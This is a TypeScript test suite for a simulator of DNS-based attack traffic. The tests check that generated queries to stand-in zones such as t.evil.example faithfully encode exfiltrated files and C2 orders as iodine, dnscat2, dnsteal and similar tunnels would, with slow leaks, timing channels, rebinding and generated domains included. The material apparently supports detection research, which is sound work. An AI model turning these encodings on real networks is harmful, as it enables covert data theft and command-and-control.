// What the attackers write is read back here by the descriptions of the tools, not by their encoders.
import { gunzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { formatName } from '#events';
import { seededRandom } from '#lib/random';
import { copyExchange, Exchange, exchanges, Rtype } from '../worlds/dns/index.ts';
import type { DnsAttack, DnsPlace } from './dns-attack.ts';
import { beacon, downstreamOrders, rebinding, sleeper } from './dns-beacons.ts';
import { generatedDomains, generators } from './dns-generated.ts';
import { iodine } from './dns-iodine.ts';
import {
  codeWords,
  reverseTunnel,
  slowLeak,
  smallLeak,
  tenantTunnel,
  timedGaps,
  twoNames,
  wordCoded,
} from './dns-slow.ts';
import { dns2tcp, dnscat2, dnsExfiltrator, dnsteal, ozyman } from './dns-tools.ts';

const from = Date.UTC(2026, 2, 2) * 1000;
const place = (zone = 't.evil.example', hours = 24): DnsPlace => ({
  random: seededRandom(`attack ${zone}`),
  victim: { id: 'plc-0001', ip: 0x0a0b0001 },
  resolver: 0x0a010035,
  fromMicros: from,
  untilMicros: from + hours * 3600e6,
  zone,
});
const run = (attack: DnsAttack): Exchange[] =>
  Array.from(exchanges(attack.source), (e) => copyExchange(e, new Exchange()));
/** Labels as Latin-1 text. */
const labelsOf = (e: Exchange): string[] => {
  const out: string[] = [];
  for (let o = 0; e.name[o]! > 0; o += 1 + e.name[o]!)
    out.push(Buffer.from(e.name.subarray(o + 1, o + 1 + e.name[o]!)).toString('latin1'));
  return out;
};
/** Labels left of the zone of `zoneLabels` labels. */
const left = (e: Exchange, zoneLabels = 3): string[] => labelsOf(e).slice(0, -zoneLabels);

/** Reads k bits a character, most significant first, whole octets only. */
function decodeBits(alphabet: string, bits: number, text: string): Buffer {
  const out: number[] = [];
  let held = 0;
  let count = 0;
  for (const c of text) {
    held = ((held << bits) | alphabet.indexOf(c)) & 0xffff;
    count += bits;
    if (count >= 8) {
      count -= 8;
      out.push((held >>> count) & 255);
    }
  }
  return Buffer.from(out);
}
const rfc32 = 'abcdefghijklmnopqrstuvwxyz234567';
const iodine32 = 'abcdefghijklmnopqrstuvwxyz012345';
const iodine64 = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-0123456789+';
const iodine128 = `${iodine64.replace('-', '').replace('+', '')}${Buffer.from(Array.from({ length: 0xfd - 0xbc + 1 }, (_, i) => 0xbc + i)).toString('latin1')}`;

/** What holds for every attack: the ledger is what was sent, times are in order and inside, runs repeat. */
function sound(make: () => DnsAttack, whole = true): Exchange[] {
  const attack = make();
  const all = run(attack);
  expect(all.length).toBeGreaterThan(0);
  expect(attack.ledger.queries).toBe(all.length);
  expect(attack.ledger.firstMicros).toBe(all[0]!.atMicros);
  expect(attack.ledger.lastMicros).toBe(all.at(-1)!.atMicros);
  for (let i = 1; i < all.length; i++) expect(all[i]!.atMicros > all[i - 1]!.atMicros).toBe(true);
  expect(all.at(-1)!.atMicros).toBeLessThan(from + 40 * 86_400e6);
  for (const e of all) expect(e.client).toBe(0x0a0b0001);
  if (whole && attack.payload.length > 0 && attack.tool !== 'dnsexfiltrator')
    expect(attack.ledger.up).toBe(attack.payload.length);
  const { ledger } = attack;
  expect(ledger.at(from - 1)).toEqual({ up: 0, down: 0 });
  expect(ledger.at(ledger.lastMicros)).toEqual({ up: ledger.up, down: ledger.down });
  const points = ledger.points(16);
  expect(points.length).toBeLessThanOrEqual(17);
  for (const [at, up, down] of points) expect(ledger.at(at)).toEqual({ up, down });
  const again = run(make()).map((e) => `${e.atMicros} ${formatName(e.name, 0, e.nameBytes)} ${e.id}`);
  expect(again).toEqual(all.map((e) => `${e.atMicros} ${formatName(e.name, 0, e.nameBytes)} ${e.id}`));
  return all;
}

describe('iodine', () => {
  const alphabets = { base32: [iodine32, 5], base64: [iodine64, 6], base128: [iodine128, 7] } as const;
  for (const type of ['NULL', 'PRIVATE', 'TXT', 'CNAME', 'MX', 'SRV', 'A'] as const)
    for (const up of ['base32', 'base64', 'base128'] as const)
      test(`${type} with ${up}: handshake by first letter, data read back`, () => {
        const make = (): DnsAttack => iodine(place(), { type, up, upBytes: 3000 });
        const all = sound(make);
        const first = all.map((e) => left(e).join(''));
        expect(first[0]).toMatch(/^vaaaaka/);
        expect(
          first
            .slice(1, 12)
            .map((n) => n[0]!.toLowerCase())
            .join(''),
        ).toBe('lyzzzsorrrn');
        expect(all.every((e) => e.qtype === Rtype[type] && e.udpBytesMax === 4096)).toBe(true);
        const [alphabet, bits] = alphabets[up];
        const data = first.filter((n) => n.startsWith('0')).map((n) => decodeBits(alphabet, bits, n.slice(5)));
        const attack = make();
        expect(Buffer.concat(data).equals(Buffer.from(attack.payload))).toBe(true);
        expect(first.some((n) => n.startsWith('p'))).toBe(true);
        // Lazy mode: some answers are seconds late.
        expect(all.some((e) => e.answeredAtMicros - e.atMicros > 1e6)).toBe(true);
      });
});

describe('other tunnels', () => {
  for (const encrypted of [true, false])
    test(`dnscat2, ${encrypted ? '' : 'not '}encrypted: one conversation, types in turn, data read back`, () => {
      const make = (): DnsAttack => dnscat2(place(), { upBytes: 4000, encrypted, prefix: 'dnscat' });
      const all = sound(make);
      const packets = all.map((e) => Buffer.from(left(e).slice(1).join(''), 'hex'));
      expect(new Set(packets.map((p) => p.readUInt16BE(3))).size).toBe(1);
      expect(packets.map((p) => p[2]).slice(0, 3)).toEqual(encrypted ? [3, 3, 0] : [0, 1, packets[2]![2]]);
      expect(packets.at(-1)![2]).toBe(2);
      expect(new Set(all.map((e) => e.qtype))).toEqual(new Set([Rtype.TXT, Rtype.CNAME, Rtype.MX]));
      const data = packets.filter((p) => p[2] === 1).map((p) => p.subarray(9));
      expect(Buffer.concat(data).equals(Buffer.from(make().payload))).toBe(true);
    });
  for (const type of ['TXT', 'KEY'] as const)
    test(`dns2tcp by ${type}: =auth, =connect, then data behind eight octets`, () => {
      const make = (): DnsAttack => dns2tcp(place(), { type, upBytes: 3000 });
      const all = sound(make);
      expect(left(all[0]!).at(-1)).toBe('=auth');
      expect(left(all[2]!).at(-1)).toBe('=connect');
      const data = all.slice(3).map((e) => Buffer.from(left(e).join(''), 'base64').subarray(8));
      expect(Buffer.concat(data).equals(Buffer.from(make().payload))).toBe(true);
    });
  test('OzymanDNS and sods: an SSH banner first, offsets add up', () => {
    for (const down of ['TXT', 'CNAME', 'NULL'] as const) {
      const make = (): DnsAttack => ozyman(place(), { down, upBytes: 1500, downBytes: 900 });
      const all = sound(make);
      const up = all.map((e) => left(e)).filter((l) => l.at(-1) === 'up');
      expect(up[0]![0]).toMatch(/^knjuqlj/);
      const data = up.map((l) => decodeBits(rfc32, 5, l.slice(0, -3).join('')));
      const attack = make();
      run(attack);
      expect(Buffer.concat(data).equals(Buffer.from(attack.payload))).toBe(true);
      let offset = 0;
      for (const [i, l] of up.entries()) {
        expect(l.at(-3)).toMatch(new RegExp(`^\\d+-${offset}$`));
        offset += data[i]!.length;
      }
    }
  });
  test('DNSExfiltrator announces the file and its chunks, then sends just those', () => {
    const make = (): DnsAttack => dnsExfiltrator(place(), { file: 'plan.txt', bytes: 5000 });
    const all = sound(make);
    const [init, ...rest] = all.map((e) => left(e));
    const announced = decodeBits(rfc32, 5, init!.slice(1, -1).join('').toLowerCase()).toString();
    expect(announced).toBe(`plan.txt|${rest.length}`);
    expect(rest.map((l) => Number(l[0]))).toEqual(rest.map((_, i) => i));
    const data = rest.map((l) => Buffer.from(l.slice(1).join(''), 'base64url'));
    expect(Buffer.concat(data).equals(Buffer.from(make().payload))).toBe(true);
  });
  test('dnsteal: a gzip file in base64 with the name behind it', () => {
    const make = (): DnsAttack => dnsteal(place(), { file: 'keys.txt', bytes: 2000 });
    const all = sound(make);
    const text = all
      .map((e) => left(e))
      .map((l) =>
        l
          .slice(0, -2)
          .map((x) => x.slice(0, -1))
          .join(''),
      )
      .join('');
    expect(gunzipSync(Buffer.from(text.replaceAll('*', '+'), 'base64')).equals(Buffer.from(make().payload))).toBe(true);
    for (const e of all) expect(left(e).slice(-2)).toEqual(['keys', 'txt']);
  });
});

describe('orders', () => {
  test('a beacon idles with one answer, and results leave under post', () => {
    const make = (): DnsAttack => beacon(place(), { sleepMicros: 60e6, jitter: 0.1, tasks: 3, resultBytes: 300 });
    const all = sound(make);
    const posts = all.map((e) => left(e)).filter((l) => l[0]!.startsWith('post'));
    // The first label is `post`, the second begins with the number of data labels.
    const bytes = posts.map((l) => {
      const count = Number(l[1]![0]);
      return Buffer.from(
        l
          .slice(1, 1 + count)
          .join('')
          .slice(1),
        'hex',
      );
    });
    expect(bytes.length).toBeGreaterThan(3);
    expect(Buffer.concat(bytes).equals(Buffer.from(make().payload))).toBe(true);
    const idle = all.filter((e) => left(e).length === 1 && e.answers[0]!.rdata.join('.') === '0.0.0.0');
    expect(idle.length).toBeGreaterThan(1000);
    expect(all.some((e) => e.qtype === Rtype.TXT && left(e)[0] === 'api')).toBe(true);
  });
  test('a sleeper asks each name of its list once, half an hour or so apart', () => {
    const names = Array.from({ length: 20 }, (_, i) => `x${i}abcdefghijklmnop.appsync-api.eu-west-1.evil.example`);
    const all = sound(() => sleeper(place('evil.example'), { names }));
    expect(all.map((e) => formatName(e.name, 0, e.nameBytes))).toEqual(names);
    for (let i = 1; i < all.length; i++) {
      const gap = all[i]!.atMicros - all[i - 1]!.atMicros;
      expect(gap).toBeGreaterThan(1000e6);
      expect(gap).toBeLessThan(2600e6);
    }
    expect(all.every((e) => e.qtype === Rtype.A)).toBe(true);
  });
  test('orders come down in answers to tiny names', () => {
    for (const type of ['TXT', 'A'] as const) {
      const make = (): DnsAttack => downstreamOrders(place(), { type, downBytes: 1000, gapMicros: 5e6 });
      const all = sound(make);
      expect(left(all[1]!).join('.')).toBe('l.1.ns');
      const attack = make();
      run(attack);
      expect(attack.ledger).toMatchObject({ up: 0, down: 1000 });
      const got = all
        .flatMap((e) => e.answers)
        .reduce((n, a) => n + (type === 'A' ? 4 : Math.floor((a.dataBytes * 3) / 4)), 0);
      expect(Math.abs(got - 1000)).toBeLessThan(4 + all.length);
    }
  });
  test('rebinding: the same name, outside first and inside after', () => {
    const all = sound(() => rebinding(place(), { targets: [0xc0a80101], rounds: 3 }));
    for (let i = 0; i < all.length; i += 2) {
      expect(labelsOf(all[i]!)).toEqual(labelsOf(all[i + 1]!));
      expect(all[i]!.answers[0]!.rdata.join('.')).toMatch(/^198\.1[89]\./);
      expect(all[i + 1]!.answers[0]!.rdata.join('.')).toBe('192.168.1.1');
    }
  });
});

describe('low, slow and hidden', () => {
  test('a leak of 0.7 octets a second is that, and its names read back', () => {
    const make = (): DnsAttack => slowLeak(place('t.evil.example', 6), { bytesPerSecond: 0.7, gapMicros: 20e6 });
    const all = sound(make, false);
    const attack = make();
    const seconds = (all.at(-1)!.atMicros - all[0]!.atMicros) / 1e6;
    const sent = Buffer.concat(all.map((e) => decodeBits(rfc32, 5, left(e).join(''))));
    expect(sent.equals(Buffer.from(attack.payload.subarray(0, sent.length)))).toBe(true);
    expect(sent.length / seconds).toBeCloseTo(0.7, 1);
    run(attack);
    expect(attack.ledger.up).toBe(sent.length);
    const half = attack.ledger.at((all[0]!.atMicros + all.at(-1)!.atMicros) / 2).up;
    expect(half / sent.length).toBeCloseTo(0.5, 1);
  });
  test('a small leak is at most 144 octets', () => {
    const make = (): DnsAttack => smallLeak(place(), { bytes: 100, perQuery: 24, gapMicros: 60e6 });
    const all = sound(make);
    const sent = Buffer.concat(all.map((e) => Buffer.from(left(e).slice(0, -1).join(''), 'hex')));
    expect(sent.equals(Buffer.from(make().payload))).toBe(true);
    expect(() => smallLeak(place(), { bytes: 145, perQuery: 24, gapMicros: 1 })).toThrow(RangeError);
  });
  test('a reverse zone carries octets as numbers or hex', () => {
    const zone = '100.51.198.in-addr.arpa';
    for (const decimal of [true, false]) {
      const make = (): DnsAttack => reverseTunnel(place(zone), { bytes: 500, gapMicros: 1e6, decimal });
      const all = sound(make);
      const sent = all.map((e) =>
        decimal ? Buffer.from(left(e, 5).map(Number)) : Buffer.from(left(e, 5).join(''), 'hex'),
      );
      expect(Buffer.concat(sent).equals(Buffer.from(make().payload))).toBe(true);
      expect(all.every((e) => e.qtype === Rtype.PTR)).toBe(true);
    }
  });
  test('a tenant of a good domain, and words', () => {
    const make = (): DnsAttack => tenantTunnel(place('a.dyn.example'), { bytes: 900, gapMicros: 1e6 });
    const sent = sound(make).map((e) => decodeBits(rfc32, 5, left(e).join('')));
    expect(Buffer.concat(sent).equals(Buffer.from(make().payload))).toBe(true);
    const words = (): DnsAttack => wordCoded(place(), { bytes: 90, perQuery: 4, gapMicros: 1e6 });
    const octets = sound(words).flatMap((e) =>
      left(e).map((l) => l.split('-').reduce((n, w) => n * 16 + codeWords.indexOf(w), 0)),
    );
    expect(octets).toEqual([...words().payload]);
  });
  test('two names are bits in order; gaps are bits too', () => {
    const bitsOf = (payload: Uint8Array): string => Array.from(payload, (o) => o.toString(2).padStart(8, '0')).join('');
    const names = (): DnsAttack => twoNames(place(), { bytes: 20, gapMicros: 1e6, names: ['www', 'mail'] });
    const asked = sound(names).map((e) => (left(e)[0] === 'mail' ? '1' : '0'));
    expect(asked.join('')).toBe(bitsOf(names().payload));
    const gaps = (): DnsAttack => timedGaps(place(), { bytes: 20, zeroMicros: 10e6, oneMicros: 30e6, name: 'time' });
    const all = sound(gaps);
    expect(new Set(all.map((e) => left(e).join('.'))).size).toBe(1);
    const told = all.slice(1).map((e, i) => (e.atMicros - all[i]!.atMicros > 20e6 ? '1' : '0'));
    expect(told.join('')).toBe(bitsOf(gaps().payload));
  });
  test('generated domains are denied until the one that answers, by every generator', () => {
    for (const generator of Object.keys(generators) as (keyof typeof generators)[]) {
      const make = (): DnsAttack =>
        generatedDomains(place('unused.example', 48), {
          generator,
          perDay: 60,
          gapMicros: 4e6,
          endings: ['example', 'test'],
        });
      const all = sound(make);
      expect(make().zone).toBe('');
      expect(all.filter((e) => e.rcode === 0).length).toBe(2);
      expect(all.filter((e) => e.rcode === 3).length).toBeGreaterThan(80);
      const distinct = new Set(all.map((e) => labelsOf(e)[0]));
      expect(distinct.size).toBeGreaterThan(0.9 * all.length);
    }
  });
  test('nothing is sent or counted behind the end', () => {
    const attack = slowLeak({ ...place(), untilMicros: from + 100e6 }, { bytesPerSecond: 1, gapMicros: 7e6 });
    const all = run(attack);
    expect(all.at(-1)!.atMicros).toBeLessThan(from + 100e6);
    expect(attack.ledger.queries).toBe(all.length);
  });
});
